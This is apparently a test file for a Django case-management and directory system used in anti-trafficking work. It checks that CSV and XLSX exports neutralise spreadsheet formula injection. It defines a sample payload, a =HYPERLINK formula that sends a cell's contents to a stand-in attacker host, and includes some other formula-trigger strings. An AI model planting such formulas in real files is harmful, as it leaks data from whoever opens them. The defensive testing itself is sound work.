"""Every export writes text a spreadsheet would run (=, +, -, @, tab, CR at the
start) as text: a village named =HYPERLINK(…) typed by a CRP must not become
a live formula in the district official's MIS."""

import csv
import io
import re
from pathlib import Path

from django.core.management import call_command
from openpyxl import load_workbook

import sangam
from sangam.core.exports import TRIGGERS, restore_cell, safe_cell
from sangam.core.roles import Role
from sangam.demo.missing import Generator, write_csv
from sangam.directory import exchange as hsds_exchange
from sangam.prevention.imports import template
from tests.conftest import district, make_agency, make_contact, make_service, make_user

ATTACK = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Open")'


def assert_harmless(cells):
    cells = [c for c in cells if isinstance(c, str)]
    assert cells, "the export wrote no text at all"
    dangerous = [c for c in cells if c.startswith(TRIGGERS)]
    assert dangerous == []


def csv_cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(content):
    book = load_workbook(io.BytesIO(content))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells), "a cell is a formula"
    return [c.value for c in cells]


def test_the_rule_quotes_text_only_and_round_trips():
    for attack in (ATTACK, "+91 99999 12345", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(attack) == "'" + attack
        assert restore_cell(safe_cell(attack)) == attack
    assert safe_cell(-5) == -5 and safe_cell("Kotam") == "Kotam"
    assert restore_cell("'quoted") == "'quoted"


def test_the_mis_xlsx_shows_a_formula_named_village_as_text(client, jharkhand):
    village = jharkhand["village"]
    village.name = ATTACK
    village.save()
    client.force_login(jharkhand["supervisor"])
    response = client.get(f"/prevention/mis/export.xlsx?area=block&id={village.block_id}")
    assert response.status_code == 200
    cells = xlsx_cells(response.content)
    assert_harmless(cells)
    assert "'" + ATTACK in cells
    assert any(isinstance(c, int) for c in cells)  # figures stay numbers


def test_the_contact_csv_neutralises_names_and_phones(client, two_districts):
    agency = two_districts["a"]
    supervisor = make_user("sup.export", Role.SUPERVISOR, agency)
    contact = make_contact(agency, name=ATTACK)
    contact.phone = "+91 99999 12345"
    contact.designation = "@SUM(1+1)"
    contact.save()
    client.force_login(supervisor)
    response = client.get(f"/agencies/{agency.pk}/contacts.csv")
    assert response.status_code == 200
    cells = csv_cells(response.content.decode())
    assert_harmless(cells)
    assert "'+91 99999 12345" in cells


def test_the_htcds_csv_neutralises_identifiers_and_reads_them_back(reference, tmp_path):
    from sangam.cases.exchange import import_csv
    from sangam.cases.models import Case, Intake, Survivor

    ngo = make_agency("IN-WB", "Malda", name="Malda NGO (synthetic)")
    make_user("sup", Role.SUPERVISOR, ngo)
    worker = make_user("wk", Role.CASEWORKER, ngo)
    s = Survivor.objects.create(name=ATTACK, sex="female", estimated_age=17, created_by=worker)
    Case.objects.create(survivor=s, agency=ngo, owner=worker, created_by=worker)
    Intake.objects.create(survivor=s, narrative="synthetic", language="ben",
                          recorded_by_agency=ngo, created_by=worker)  # fmt: skip
    path = tmp_path / "cases.csv"
    call_command("cases", "export", "--user", "sup", "--identifiers", str(path))
    text = path.read_text(encoding="utf-8")
    assert_harmless(csv_cells(text))
    report = import_csv(worker, ngo, path)
    assert not report.errors
    names = {v.name for v in Survivor.objects.restrict(worker, "view")}
    assert names == {ATTACK}


def test_the_hsds_csv_neutralises_directory_text_and_imports_it_unchanged(directory, tmp_path):
    make_service(ATTACK, district("IN-WB", "Malda"))
    hsds_exchange.export_csv(tmp_path / "csv")
    cells = [c for p in (tmp_path / "csv").glob("*.csv") for c in csv_cells(p.read_text())]
    assert_harmless(cells)
    assert "'+91 99999 12345" in cells
    tables, errors = hsds_exchange.read_csv(tmp_path / "csv")
    assert errors == []
    assert {r.data.get("name") for r in tables["services"]} == {ATTACK}
    assert {r.data.get("number") for r in tables["phones"]} == {"+91 99999 12345"}


def test_the_register_templates_hold_no_formula(db):
    assert_harmless(csv_cells(template("households", "csv").decode("utf-8-sig")))
    assert_harmless(xlsx_cells(template("households", "xlsx")))


def test_the_matching_pair_file_neutralises_ids(tmp_path):
    missing, found, _truth = Generator(seed=5).dataset(300, 60)
    twin = dict(missing[0])
    missing[0]["id"] = "=M1+1"
    found.append({
        "id": "-F1", "name": twin["name"], "sex": twin["sex"], "age": twin["age"],
        "date_found": "2024-01-15", "father_name": twin["father_name"],
        "stated_state": twin["origin_state"], "stated_district": twin["origin_district"],
        "stated_village": twin["origin_village"], "found_state": "Delhi",
        "found_district": "South", "language": twin["language"],
    })  # fmt: skip
    write_csv(tmp_path / "missing.csv", missing)
    write_csv(tmp_path / "found.csv", found)
    out = tmp_path / "pairs.csv"
    call_command("matching", "files", "--missing", str(tmp_path / "missing.csv"),
                 "--found", str(tmp_path / "found.csv"), "--out", str(out))  # fmt: skip
    cells = csv_cells(out.read_text(encoding="utf-8"))
    assert_harmless(cells)
    assert "'-F1" in cells


# A module that writes CSV or XLSX must write its cells through sangam.core.exports.
WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|Workbook\(")
# Demo generators write synthetic files meant to be imported, not read by people.
NOT_EXPORTS = {"demo"}


def test_every_module_that_writes_a_spreadsheet_uses_the_rule():
    root = Path(sangam.__file__).parent
    writers = [
        p
        for p in root.rglob("*.py")
        if p.relative_to(root).parts[0] not in NOT_EXPORTS and WRITERS.search(p.read_text())
    ]
    assert len(writers) >= 6  # contacts, HTCDS, HSDS, MIS, templates, matching files
    unsafe = [str(p.relative_to(root)) for p in writers if "safe_" not in p.read_text()]
    assert unsafe == []
